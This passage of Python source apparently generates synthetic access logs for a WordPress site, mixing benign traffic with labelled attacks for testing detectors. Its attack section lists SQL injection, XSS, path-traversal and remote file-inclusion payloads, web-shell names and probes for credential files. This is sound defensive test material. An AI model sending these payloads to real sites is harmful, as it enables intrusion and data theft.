    (0.25, ("157.55.39.12", "40.77.167.51"),
     "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    (0.10, ("91.242.162.20",),
     "Mozilla/5.0 (compatible; Qwantbot/1.0_5401463; +https://help.qwant.com/bot/)"),
    (0.10, ("17.241.219.87",),
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like "
     "Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)"),
    (0.10, ("69.171.249.11", "173.252.83.2"),
     "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"),
)  # fmt: skip
"""Search engines and link previewers: share of the crawler lines, addresses, agent."""
CRAWLER_SHARE = 0.05
"""Share of the log's lines from search-engine crawlers."""
CRAWLER_EXTRA = ("/robots.txt", "/sitemap.xml", "/wp-sitemap-posts-post-1.xml", "/feed/")


def search_crawlers(world: World, lines: int) -> tuple[pl.DataFrame, Label]:
    """Search engines fetching every page steadily, day and night (a few 404s and 304s)."""
    frames = []
    for share, ips, agent in CRAWLERS:
        for ip in ips:
            n = max(1, int(lines * share / len(ips)))
            frames.append(_crawl(world, world.addresses.fixed(ip), agent, n, None))
    frame = pl.concat(frames)
    ips = tuple(ip for _, group, _ in CRAWLERS for ip in group)
    note = "Googlebot, bingbot, Qwantbot, Applebot, facebookexternalhit: steady, all pages"
    return frame, _label("search_crawlers", "benign", ips, (), frame, note)


def _crawl(
    world: World, ip: str, agent: str, n: int, burst: tuple[int, float] | None
) -> pl.DataFrame:
    """``n`` page fetches by a crawler: spread over the span, or ``burst`` = (start, per
    second)."""
    rand, site = world.rand, world.site
    pages = [p for p, q in zip(site.pages, site.queries, strict=True) if not q]
    pages += CRAWLER_EXTRA
    if burst is None:
        ts = (rand.uniform(n) * world.clock.span_us).cast(pl.Int64) + world.clock.start_us
    else:
        ts = pl.Series(_times(burst[0], n, burst[1], rand), dtype=pl.Int64)
    rows = pl.DataFrame(
        {
            "page": _gather(pages, rand.ints(n, len(pages))),
            "dead": _gather(DEAD_LINKS, rand.ints(n, len(DEAD_LINKS))),
            "v": rand.uniform(n),
        }
    )
    v = pl.col("v")
    status = pl.when(v < 0.01).then(404).when(v < 0.03).then(304).otherwise(200)
    rows = rows.select(
        pl.when(v < 0.01).then(pl.col("dead")).otherwise(pl.col("page")).alias("path"),
        status.alias("status"),
        pl.when(status == 200).then((12_000 + v * 60_000).cast(pl.Int64)).otherwise(0).alias("b"),
    )
    columns = {"ip": ip, "ts": ts, "path": rows["path"], "status": rows["status"], "ua": agent}
    return _frame({**columns, "bytes": rows["b"]}, n)


def aggressive_crawler(world: World, at: int) -> tuple[pl.DataFrame, Label]:
    """An SEO crawler fetching 4 pages a second for 6 minutes: a fast crawl (info), no more."""
    ip = world.addresses.fixed("54.36.148.92")
    agent = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
    frame = _crawl(world, ip, agent, 1440, (at, 4.0))
    note = "AhrefsBot, 4 pages/s for 6 min: a fast crawl (info), nothing more severe"
    return frame, _label("aggressive_crawler", "benign", (ip,), ("crawl.non_static",), frame, note)


MONITORS = (
    ("216.144.250.150", "HEAD", "/", 300,
     "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
    ("51.159.20.14", "GET", "/healthz", 60, "curl/8.5.0"),
    ("52.210.8.11", "GET", "/feed/", 1800,
     "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)"),
    ("35.180.4.21", "GET", "/feed/", 1800,
     "Inoreader/1.0 (+http://www.inoreader.com/feed-fetcher; 3 subscribers; )"),
)  # fmt: skip
"""Clients polling on a clock: address, method, path, every how many seconds, agent."""


def monitoring(world: World) -> tuple[pl.DataFrame, Label]:
    """An uptime probe (HEAD every 5 min), the campaign's own health check (every minute),
    two feed readers (every 30 min, mostly 304)."""
    rand = world.rand.py
    records: list[dict[str, object]] = []
    for ip, method, path, every, agent in MONITORS:
        world.addresses.fixed(ip)
        t = world.clock.start_us + int(rand.random() * every * _US)
        while t < world.end_us:
            status = 304 if path == "/feed/" and rand.random() < 0.8 else 200
            size = 38_000 if path == "/feed/" and status == 200 else 2 if path == "/healthz" else 0
            records.append(_req(ip, t, path, agent, method=method, status=status, bytes=size))
            t += every * _US + int(rand.uniform(-2, 2) * _US)
    frame = _rows(records)
    ips = tuple(m[0] for m in MONITORS)
    return frame, _label("monitoring", "benign", ips, (), frame, "uptime, health check, feeds")


STAFF_AGENTS = (
    *(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
      f"Chrome/{v}.0.0.0 Safari/537.36" for v in range(124, 128)),
    *(f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
      f"Gecko) Version/{v}.1 Safari/605.1.15" for v in (16, 17, 18)),
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
)  # fmt: skip
"""The 8 browsers of the campaign office (fewer than ``dos.switching_ua``'s capacity)."""
ADMIN_PAGES = (
    "/wp-admin/edit.php", "/wp-admin/post.php", "/wp-admin/upload.php", "/wp-admin/admin.php",
    "/wp-admin/index.php", "/wp-admin/post-new.php",
)  # fmt: skip


OFFICE_SHARE = 0.008
"""About this share of the log's lines comes from the campaign office."""


def office(world: World, lines: int) -> tuple[pl.DataFrame, Label]:
    """The campaign office behind one address: 8 staff logging in (now and then mistyping)
    and editing in wp-admin, each open tab sending WordPress's heartbeat every minute."""
    clock = world.clock
    ip = world.addresses.v4()
    days = max(1, math.ceil(clock.span_us / (86400 * _US)))
    sessions = max(1, round(lines / (len(STAFF_AGENTS) * days * 45 * 1.35)))
    since_midnight = (clock.start_us // _US + clock.offset_s) % 86400
    midnight = clock.start_us - since_midnight * _US
    records: list[dict[str, object]] = []
    for day in range(days):
        for agent in STAFF_AGENTS:
            for n in range(sessions):
                hour = world.rand.py.uniform(8.5, 18.5)
                at = midnight + day * 86400 * _US + int(hour * 3600 * _US)
                records += _staff_session(world, ip, agent, at, login=n == 0)
    frame = _rows([r for r in records if clock.start_us <= _int(r["ts"]) < world.end_us])
    note = "8 staff on one address: logins (a few mistyped), wp-admin, heartbeat POSTs"
    return frame, _label("campaign_office", "benign", (ip,), (), frame, note)


def _int(value: object) -> int:
    return value if isinstance(value, int) else 0


def _staff_session(
    world: World, ip: str, agent: str, at: int, login: bool
) -> list[dict[str, object]]:
    """45 minutes in wp-admin: a heartbeat POST a minute, an admin page now and then."""
    rand = world.rand.py
    records: list[dict[str, object]] = []
    if login:
        if rand.random() < 0.15:  # a mistyped password, then the right one
            records.append(_req(ip, at - 20 * _US, "/wp-login.php", agent, method="POST",
                                bytes=4_310))  # fmt: skip
        records.append(_req(ip, at, "/wp-login.php", agent, method="POST", status=302,
                            referer=SITE + "/wp-login.php"))  # fmt: skip
    for minute in range(45):
        now = at + minute * _MIN + int(rand.random() * 2 * _US)
        records.append(_req(ip, now, "/wp-admin/admin-ajax.php", agent, method="POST",
                            bytes=61, referer=SITE + "/wp-admin/post.php"))  # fmt: skip
        if rand.random() < 0.35:
            page = rand.choice(ADMIN_PAGES)
            query = f"post={rand.randint(100, 900)}&action=edit" if page.endswith("t.php") else ""
            records.append(_req(ip, now + 17 * _US, page, agent, query=query,
                                bytes=rand.randint(40_000, 90_000),
                                referer=SITE + "/wp-admin/"))  # fmt: skip
    return records


def mobile_nat(world: World) -> tuple[pl.DataFrame, Label]:
    """One carrier-grade NAT address shared by 40 phone users over the day."""
    ip = world.addresses.v4()
    models = ("K", "SM-A546B", "Pixel 7", "M2101K6G", "SM-G991B", "CPH2449", "2201117TY")
    agents = [
        f"Mozilla/5.0 (Linux; Android {10 + n % 5}; {models[n % len(models)]}) AppleWebKit/"
        f"537.36 (KHTML, like Gecko) Chrome/{120 + n // 4}.0.0.0 Mobile Safari/537.36"
        for n in range(40)
    ]
    people = pl.DataFrame({"ip": [ip] * 40, "ua": agents, "u": [0.999] * 40})
    frame = visits(world, 40, world.clock.draw, visitors=people)
    note = "40 phone users behind one address, each with their own browser"
    return frame, _label("mobile_carrier_nat", "benign", (ip,), (), frame, note)


def newsletter_surge(world: World, at: int) -> tuple[pl.DataFrame, Label]:
    """The newsletter goes out: new readers arrive on one article for about 20 minutes,
    about doubling the site's traffic (new addresses, far below a distributed flood)."""
    sessions = max(10, int(world.local_rate(at)))
    people = new_visitors(world, sessions).with_columns(pl.lit(0.999).alias("u"))

    def draw(rand: Rand, n: int) -> pl.Series:
        wait = (-(rand.uniform(n) + 1e-12).log() * 6 * _MIN).clip(0, 25 * _MIN)
        return (wait.cast(pl.Int64) + at).rename("ts")

    article = world.site.pages[20]
    query = "utm_source=newsletter&utm_medium=email&utm_campaign=lettre-12"
    frame = visits(world, sessions, draw, entry=(article, query), visitors=people)
    ips = tuple(people["ip"].to_list())
    note = f"{sessions} new readers on {article} within about 20 minutes"
    return frame, _label("newsletter_surge", "benign", ips, (), frame, note)


BACKGROUND_PROBES = (
    "/.env", "/wp-login.php", "/xmlrpc.php", "/.git/config", "/phpmyadmin/", "/admin/",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin",
    "/cgi-bin/luci/;stok=/locale", "/.aws/credentials", "/config.json", "/api/.env",
    "/server-status", "/owa/auth/logon.aspx", "/actuator/health",
)  # fmt: skip
BACKGROUND_AGENTS = (
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/87.0.4280.88 Safari/537.36",
    "python-requests/2.31.0", "Go-http-client/1.1", "curl/7.68.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/"
    "120.0.0.0 Safari/537.36",
)  # fmt: skip


def background_noise(world: World, lines: int) -> tuple[pl.DataFrame, Label]:
    """The internet's background radiation: a few hundred addresses at most, each one to
    three probes hours apart (every threshold stays far away)."""
    rand = world.rand.py
    count = min(300, max(10, lines // 2000))
    records: list[dict[str, object]] = []
    ips = []
    for _ in range(count):
        ip = world.addresses.attacker()
        ips.append(ip)
        agent = rand.choice(BACKGROUND_AGENTS)
        t = world.clock.start_us + int(rand.random() * world.clock.span_us * 0.7)
        for _ in range(rand.randint(1, 3)):
            path = rand.choice(BACKGROUND_PROBES)
            found = path in ("/wp-login.php", "/xmlrpc.php")
            method = "POST" if path == "/xmlrpc.php" else "GET"
            status, size = (200, 4_310) if found else (404, 548)
            records.append(_req(ip, t, path, agent, method=method, status=status, bytes=size))
            t += int(rand.uniform(0.5, 4) * 3600 * _US)
    frame = _rows([r for r in records if _int(r["ts"]) < world.end_us])
    note = f"{count} addresses, 1 to 3 probes each, hours apart"
    return frame, _label("background_probes", "noise", ips, (), frame, note)


ONE_OFF_AGENTS = (
    "WhatsApp/2.24.23.78 A", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Twitterbot/1.0", "TelegramBot (like TwitterBot)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    "FreshRSS/1.24.3 (Linux; https://freshrss.org)", "Tiny Tiny RSS/23.04 (https://tt-rss.org/)",
    "NextCloud-News/1.0", "Wget/1.21.3", "curl/8.5.0",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
)  # fmt: skip
"""Clients that come once or twice: link previews, self-hosted feed readers, scripts."""
ONE_OFF_SHARE = 0.03
"""Share of the log's lines from one-off clients (many addresses, one or two lines each)."""


def one_off_clients(world: World, lines: int) -> pl.DataFrame:
    """Many addresses seen once or twice: a shared link unfurled, a feed polled, a script."""
    rand, addr = world.rand, world.addresses
    count = max(1, int(lines / 1.4))
    ips = pl.Series([addr.v6() if rand.py.random() < 0.1 else addr.v4() for _ in range(count)])
    agent = _gather(ONE_OFF_AGENTS, rand.ints(count, len(ONE_OFF_AGENTS)))
    pages = world.site.pages
    where = rand.uniform(count)
    path = pl.select(
        pl.when(where < 0.45).then(pl.lit("/feed/"))
        .when(where < 0.55).then(pl.lit("/"))
        .otherwise(_gather(pages[13:], rand.ints(count, len(pages) - 13)))
    ).to_series()  # fmt: skip
    first = pl.DataFrame(
        {"ip": ips, "ua": agent, "path": path, "ts": world.clock.draw(rand, count)}
    )
    again = first.filter(rand.uniform(count) < 0.4)
    again = again.with_columns(
        pl.col("ts") + (rand.uniform(again.height) * 600 * _US).cast(pl.Int64) + _US
    )
    both = pl.concat([first, again]).filter(pl.col("ts") < world.end_us)
    size = (rand.uniform(both.height) * 40_000 + 9_000).cast(pl.Int64)
    return _frame({**{c: both[c] for c in ("ip", "ua", "path", "ts")}, "bytes": size}, both.height)


def _label(
    name: str,
    kind: str,
    ips: Sequence[str],
    expected: Sequence[str],
    frame: pl.DataFrame,
    note: str,
) -> Label:
    present = set(frame["ip"].unique().to_list())
    kept = tuple(sorted(ip for ip in ips if ip in present))
    start, end = _span(frame)
    return Label(name, kind, kept, tuple(expected), to_utc(start), to_utc(end), frame.height, note)


def _span(frame: pl.DataFrame) -> tuple[int, int]:
    """First and last ``ts`` of the rows (0, 0 when none)."""
    bounds = frame.select(pl.col("ts").min().alias("a"), pl.col("ts").max().alias("b")).row(0)
    return int(bounds[0] or 0), int(bounds[1] or 0)


# --------------------------------------------------------------------------- attacks

CHROME_WIN = BROWSERS[0][1]
SCANNER_FILES = (
    "index.php", "login.php", "config.php", "install.php", "setup.php", "test.php", "info.php",
    "shell.php", "upload.php", "db.php", "admin.cgi", "test.cgi", "default.asp", "login.jsp",
    "console", "status", "debug", "api", "server-info", "readme.txt", "install.txt", "app.js",
    "main.php", "home.php", "user.php", "users.json", "config.inc", "settings.py", "web.xml",
    "env.js", "cmd.php", "eval.php", "c99.php", "r57.php", "wso.php", "up.php", "file.php",
    "mail.php", "old.php", "new.php",
)  # fmt: skip
SCANNER_DIRS = ("", "/old", "/backup", "/test", "/dev", "/tmp", "/new", "/site", "/v1", "/cgi-bin",
                "/scripts", "/includes")  # fmt: skip
GENERIC_PROBES = tuple(f"{d}/{f}" for d in SCANNER_DIRS for f in SCANNER_FILES)
"""Generic scanner paths (none static, none sensitive, none an admin or WordPress path)."""
SENSITIVE_PROBES = (
    "/.env", "/.git/config", "/.git/HEAD", "/backup.zip", "/backup.sql", "/db.sql", "/dump.sql",
    "/wp-config.php.bak", "/wp-config.php.old", "/config.php.bak", "/.htpasswd", "/.DS_Store",
    "/.aws/credentials", "/id_rsa", "/.ssh/id_rsa", "/docker-compose.yml", "/phpinfo.php",
    "/.vscode/sftp.json", "/sftp-config.json", "/www.zip", "/database.sql", "/.svn/entries",
    "/web.config", "/.npmrc", "/.bash_history", "/index.php~", "/config.yml.save",
    "/server.key", "/site.tar.gz", "/db.sqlite3",
)  # fmt: skip
"""Paths the ``scan.sensitive_files`` pattern names."""
ADMIN_PROBES = (
    "/admin/", "/administrator/", "/phpmyadmin/", "/pma/", "/myadmin/", "/adminer.php",
    "/manager/html", "/cpanel", "/webadmin/", "/siteadmin/", "/admin-console", "/jmx-console/",
    "/solr/admin/", "/backend/", "/webmin/", "/plesk", "/mysqladmin/", "/dbadmin/",
    "/sqladmin/", "/admincp/", "/panel/", "/admin.php", "/admin/login.php", "/phpMyAdmin/",
    "/db/phpmyadmin/",
)  # fmt: skip
"""Paths the ``scan.admin_interface`` pattern names."""
PLUGINS = (
    "contact-form", "seo-pack", "revslider", "wp-file-manager", "elementor-pro", "duplicator",
    "easy-wp-smtp", "ninja-forms", "wpforms-lite", "litespeed-cache", "woocommerce-payments",
    "really-simple-ssl", "backup-guard", "slider-pro", "gallery-plus", "social-share",
    "mail-poet", "event-calendar", "form-maker", "image-optimizer",
)  # fmt: skip
WORDPRESS_PROBES = tuple(
    [f"/wp-content/plugins/{p}/readme.txt" for p in PLUGINS]
    + ["/wp-admin/setup-config.php", "/wp-content/debug.log", "/wp-admin/install.php",
       "/wp-content/themes/twentytwenty/readme.txt", "/wp-includes/wlwmanifest.xml",
       "/wordpress/wp-login.php", "/blog/wp-login.php", "/wp/wp-login.php",
       "/wp-content/uploads/wp-file-manager-pro/fm_backup/", "/wp-json/wp/v2/users/1"]
)  # fmt: skip
"""Paths the ``scan.wordpress`` pattern names (all missing here: 404)."""
TRAVERSAL_PROBES = (
    "/static/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/..%c0%af..%c0%af..%c0%afetc/passwd", "/images/..%2f..%2f..%2f..%2fetc%2fshadow",
    "/download.php?file=../../../../etc/passwd", "/index.php?page=....//....//....//etc/passwd",
    "/?file=..%252f..%252f..%252fetc%252fpasswd", "/assets/..%5c..%5c..%5cwindows%5cwin.ini",
    "/view?doc=../../../../boot.ini", "/include.php?path=/proc/self/environ",
    "/page?name=..;/..;/..;/etc/hosts", "/show.php?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
)  # fmt: skip
"""Paths the ``probe.path_traversal`` pattern names."""
SQLI_PAYLOADS = (
    "%27", "%27%20OR%20%271%27%3D%271", "%20AND%201%3D1", "%20AND%201%3D2",
    "%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-", "%20AND%20SLEEP%285%29",
    "%29%20AND%20%28SELECT%205521%20FROM%20%28SELECT%28SLEEP%285%29%29%29a%29--%20x",
    "%3B%20WAITFOR%20DELAY%20%270%3A0%3A5%27--",
    "%20AND%20EXTRACTVALUE%281%2CCONCAT%280x7e%2CVERSION%28%29%29%29",
    "%22", "%20ORDER%20BY%2010--%20-", "%27%20AND%20%27x%27%3D%27x",
    "%20AND%20%28SELECT%201%20FROM%20information_schema.tables%29", "%20OR%201%3D1%23",
    "%27%29%20AND%20pg_sleep%285%29--",
    "%20AND%20updatexml%281%2Cconcat%280x3a%2Cuser%28%29%29%2C1%29",
)  # fmt: skip
"""SQL injection payloads (percent-encoded, as tools send them)."""
XSS_PAYLOADS = (
    "%3Cscript%3Ealert%28{n}%29%3C%2Fscript%3E",
    "%3Cimg%20src%3Dx%20onerror%3Dalert%28{n}%29%3E",
    "%3Csvg%2Fonload%3Dalert%28document.domain%29%3E{n}",
    "javascript%3Aalert%28{n}%29",
    "%3Cbody%20onload%3Dprompt%28{n}%29%3E",
    "%3Cdetails%20open%20ontoggle%3Dconfirm%28{n}%29%3E",
    "%3Ciframe%20src%3Djavascript%3Aalert%28{n}%29%3E",
    "%3Cinput%20onfocus%3Dalert%28{n}%29%20autofocus%3E",
)
"""Script injection payloads without quotes (so that they are XSS marks only)."""
INCLUSION_PAYLOADS = (
    "php://filter/convert.base64-encode/resource=index", "php://input",
    "http://198.51.100.77/shell.txt?", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2B",
    "expect://id", "phar://uploads/avatar.jpg/x", "https://203.0.113.9/r57.txt",
    "zip://uploads/x.zip%23shell", "php://filter/read=string.rot13/resource=config",
)  # fmt: skip
"""File inclusion parameters (stream wrappers, remote URLs)."""


@dataclass(frozen=True)
class AttackSpec:
    """One kind of injected attack: how long it lasts, what should flag it, how to make it."""

    name: str
    kind: str
    minutes: float
    """Length of the attack itself (its slot adds margins around it)."""
    expected: tuple[str, ...]
    """Detector ids expected to flag each of its IPs."""
    build: Callable[[World, int], pl.DataFrame]
    """``build(world, start_us)``: its rows."""
    note: str


def wordpress_bruteforce(world: World, at: int) -> pl.DataFrame:
    """One address: the login form, then 280 failed logins (answered 200), one every 2 s."""
    ip, rand = world.addresses.attacker(), world.rand
    form = SITE + "/wp-login.php"
    records = [_req(ip, at, "/wp-login.php", CHROME_WIN, bytes=4_310)]
    for t in _times(at + 3 * _US, 280, 0.5, rand):
        size = rand.py.randint(4_300, 4_420)
        records.append(_req(ip, t, "/wp-login.php", CHROME_WIN, method="POST", bytes=size,
                            referer=form))  # fmt: skip
    return _rows(records)


def xmlrpc_bruteforce(world: World, at: int) -> pl.DataFrame:
    """One address: 60 POSTs to xmlrpc.php, one every 20 s."""
    ip = world.addresses.attacker()
    agent = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"
    times = _times(at, 60, 1 / 20, world.rand)
    return _rows([_req(ip, t, "/xmlrpc.php", agent, method="POST", bytes=403) for t in times])


def credential_stuffing(world: World, at: int) -> pl.DataFrame:
    """About 80 addresses (4 in small networks), each failing 2 to 6 logins on the members'
    area, 4 to 15 minutes apart, over an hour and a half."""
    rand, addr = world.rand.py, world.addresses
    ips = [ip for _ in range(4) for ip in addr.network(rand.randint(3, 4))]
    ips += [addr.attacker() for _ in range(66)]
    form = SITE + "/connexion/"
    records: list[dict[str, object]] = []
    for ip in ips:
        agent = rand.choice(BROWSERS)[1]
        t = at + int(rand.uniform(0, 60) * _MIN)
        records.append(_req(ip, t, "/connexion/", agent, bytes=21_480))
        for _ in range(rand.randint(2, 6)):
            t += int(rand.uniform(4, 15) * _MIN)
            if t >= at + 95 * _MIN:
                break
            records.append(_req(ip, t + 8 * _US, "/connexion/", agent, method="POST",
                                bytes=21_512, referer=form))  # fmt: skip
    return _rows(records)


def http_auth_bruteforce(world: World, at: int) -> pl.DataFrame:
    """One address: 480 basic-auth guesses on /intranet/ (401), one a second."""
    ip, rand = world.addresses.attacker(), world.rand
    users = ("admin", "root", "test", "contact", "campagne", "webmaster", "user", "info")
    agent = "python-requests/2.32.3"
    return _rows([
        _req(ip, t, "/intranet/", agent, user=users[i % len(users)], status=401, bytes=381)
        for i, t in enumerate(_times(at, 480, 1.0, rand))
    ])  # fmt: skip


def ip_flood(world: World, at: int) -> pl.DataFrame:
    """One address: 12 requests a second on 25 pages for 3 minutes."""
    ip, rand = world.addresses.attacker(), world.rand
    agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    agent += "Chrome/120.0.0.0 Safari/537.36"
    pages = world.site.pages[:25]
    return _rows([
        _req(ip, t, rand.py.choice(pages), agent, bytes=35_000)
        for t in _times(at, 12 * 180, 12.0, rand)
    ])  # fmt: skip


def url_flood(world: World, at: int) -> pl.DataFrame:
    """20 addresses (12 in one /24) hammering one costly URL for 3 minutes, together 2.5
    times the site's own rate at that hour (at least 450 a minute)."""
    rand, addr = world.rand, world.addresses
    ips = addr.network(12) + [addr.attacker() for _ in range(8)]
    per_minute = max(450.0, 2.5 * world.local_rate(at)) / len(ips)
    records: list[dict[str, object]] = []
    for ip in ips:
        agent = rand.py.choice(BROWSERS)[1]
        for t in _times(at, int(per_minute * 3), per_minute / 60, rand):
            query = f"per_page=100&page={rand.py.randint(1, 40)}"
            records.append(_req(ip, t, "/wp-json/wp/v2/posts", agent, query=query, bytes=251_000))
    return _rows(records)


def distributed_flood(world: World, at: int) -> pl.DataFrame:
    """400 addresses never seen before (25 small networks and singles) sending, for 3
    minutes, 10 times the log's mean rate (at least 1,100 a minute) on the top pages."""
    rand, addr = world.rand, world.addresses
    ips = [ip for _ in range(25) for ip in addr.network(rand.py.randint(4, 8))]
    ips += [addr.attacker() for _ in range(400 - len(ips))]
    per_bot = max(1100.0, 10 * world.rate) * 3 / len(ips)
    pages = world.site.pages[:12]
    records: list[dict[str, object]] = []
    for ip in ips:
        agent = rand.py.choice(BROWSERS)[1]
        for _ in range(max(1, int(per_bot * rand.py.uniform(0.7, 1.3)))):
            t = at + int(rand.py.random() * 3 * _MIN)
            records.append(_req(ip, t, rand.py.choice(pages), agent, bytes=41_000))
    return _rows(records)


def random_uri_flood(world: World, at: int) -> pl.DataFrame:
    """One address: 12 requests a second on random upper-case names (404) for 80 s."""
    ip, rand = world.addresses.attacker(), world.rand
    return _rows([
        _req(ip, t, "/" + rand.token(6, string.ascii_uppercase), CHROME_WIN, status=404, bytes=548)
        for t in _times(at, 960, 12.0, rand)
    ])  # fmt: skip


def cache_bypass_flood(world: World, at: int) -> pl.DataFrame:
    """One address: 4 requests a second on ``/?<10 digits>`` for 2 minutes."""
    ip, rand = world.addresses.attacker(), world.rand
    return _rows([
        _req(ip, t, "/", CHROME_WIN, query=rand.token(10, string.digits), bytes=52_000)
        for t in _times(at, 480, 4.0, rand)
    ])  # fmt: skip


def switching_ua_flood(world: World, at: int) -> pl.DataFrame:
    """One address: 2.5 requests a second for 3 minutes, a new user agent on each."""
    ip, rand = world.addresses.attacker(), world.rand
    pages = world.site.pages[:4]
    records = []
    for i, t in enumerate(_times(at, 450, 2.5, rand)):
        system = rand.py.choice(("6.1", "6.3", "10.0"))
        agent = (f"Mozilla/5.0 (Windows NT {system}; Win64; x64) AppleWebKit/537.36 (KHTML, like "
                 f"Gecko) Chrome/{70 + i % 60}.0.{3000 + i}.{i % 150} Safari/537.36")  # fmt: skip
        records.append(_req(ip, t, rand.py.choice(pages), agent, bytes=41_000))
    return _rows(records)


def error_flood(world: World, at: int) -> pl.DataFrame:
    """5 addresses flooding the comment form for 2 minutes, answered 503: 0.45 times the
    site's rate at that hour (at least 70 a minute)."""
    rand, addr = world.rand, world.addresses
    ips = [addr.attacker() for _ in range(5)]
    per_minute = max(70.0, 0.45 * world.local_rate(at)) / len(ips)
    article = SITE + world.site.pages[30]
    records: list[dict[str, object]] = []
    for ip in ips:
        for t in _times(at, int(per_minute * 2), per_minute / 60, rand):
            records.append(_req(ip, t, "/wp-comments-post.php", CHROME_WIN, method="POST",
                                status=503, bytes=197, referer=article))  # fmt: skip
    return _rows(records)


def _probes(
    ip: str,
    at: int,
    per_second: float,
    phases: Sequence[tuple[Sequence[str], int]],
    agent: Callable[[int], str],
    rand: Rand,
) -> pl.DataFrame:
    """A scanner going through lists of targets (``path?query``) one list after the other,
    each answered with its status (a ``.git`` file with 403)."""
    targets = [(target, status) for paths, status in phases for target in paths]
    times = _times(at, len(targets), per_second, rand)
    records: list[dict[str, object]] = []
    for i, ((target, status), t) in enumerate(zip(targets, times, strict=True)):
        path, _, query = target.partition("?")
        status = 403 if "/.git/" in path else status
        size = 548 if status >= 400 else 3_200
        records.append(_req(ip, t, path, agent(i), query=query, status=status, bytes=size))
    return _rows(records)


def vuln_scanner(world: World, at: int) -> pl.DataFrame:
    """Nikto at 3 requests a second: generic paths, sensitive files, admin panels,
    WordPress, traversal; a new test id in its agent on every request."""
    first = world.rand.py.randint(1, 9000)
    phases = [
        (GENERIC_PROBES[:240], 404), (SENSITIVE_PROBES, 404), (ADMIN_PROBES, 404),
        (WORDPRESS_PROBES, 404), (TRAVERSAL_PROBES, 400), (GENERIC_PROBES[240:], 404),
    ]  # fmt: skip

    def agent(i: int) -> str:
        return f"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{first + i:06d})"

    return _probes(world.addresses.attacker(), at, 3.0, phases, agent, world.rand)


PLUGIN_WORDS = (
    "seo", "form", "cache", "slider", "gallery", "backup", "social", "mail", "event", "shop",
    "pay", "secure", "lite", "pro", "booking", "chat", "popup", "map",
)  # fmt: skip
PLUGIN_SLUGS = tuple(
    f"{a}-{b}-{c}"
    for a in PLUGIN_WORDS
    for b in PLUGIN_WORDS
    if a != b
    for c in ("plus", "wp", "x")
)
"""918 plugin names a WordPress scanner tries (none installed here)."""


def wordpress_scanner(world: World, at: int) -> pl.DataFrame:
    """WPScan at 4 requests a second: a few pages, then every plugin's readme (404)."""
    head = ["/", "/readme.html", "/wp-json/", "/feed/", "/wp-includes/js/wp-emoji-release.min.js"]
    probes = [f"/wp-content/plugins/{slug}/readme.txt" for slug in PLUGIN_SLUGS]
    agent = "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)"
    phases = [(head, 200), (probes, 404)]
    return _probes(world.addresses.attacker(), at, 4.0, phases, lambda i: agent, world.rand)


def stealth_scanner(world: World, at: int) -> pl.DataFrame:
    """A browser's agent, one probe every 2 s: sensitive files, admin panels, generic paths."""
    phases = [(SENSITIVE_PROBES, 404), (ADMIN_PROBES, 404), (GENERIC_PROBES[100:180], 404)]
    ip = world.addresses.attacker()
    return _probes(ip, at, 0.5, phases, lambda i: CHROME_WIN, world.rand)


def sqli_prober(world: World, at: int) -> pl.DataFrame:
    """sqlmap on ``/actualites/?id=``, 2 requests a second for 4 minutes (a few 500s)."""
    ip, rand = world.addresses.attacker(), world.rand
    agent = "sqlmap/1.8.11#stable (https://sqlmap.org)"
    records = []
    for i, t in enumerate(_times(at, 480, 2.0, rand)):
        query = f"id={100 + i // 16}{SQLI_PAYLOADS[i % len(SQLI_PAYLOADS)]}"
        status = 500 if rand.py.random() < 0.1 else 200
        size = 31_000 if status == 200 else 612
        records.append(_req(ip, t, "/actualites/", agent, query=query, status=status, bytes=size))
    return _rows(records)


def xss_prober(world: World, at: int) -> pl.DataFrame:
    """Script injection in the search box, 1.5 requests a second for 3 minutes."""
    ip, rand = world.addresses.attacker(), world.rand
    agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    return _rows([
        _req(ip, t, "/", agent, query="s=" + XSS_PAYLOADS[i % len(XSS_PAYLOADS)].format(n=i),
             bytes=24_000)
        for i, t in enumerate(_times(at, 270, 1.5, rand))
    ])  # fmt: skip


def lfi_prober(world: World, at: int) -> pl.DataFrame:
    """Path traversal and file inclusion on ``/index.php``, one request a second."""
    depth = ["../" * d for d in range(3, 9)]
    traversal = [f"{d}etc/passwd" for d in depth]
    traversal += [f"{d.replace('/', '%2f')}etc%2fpasswd" for d in depth]
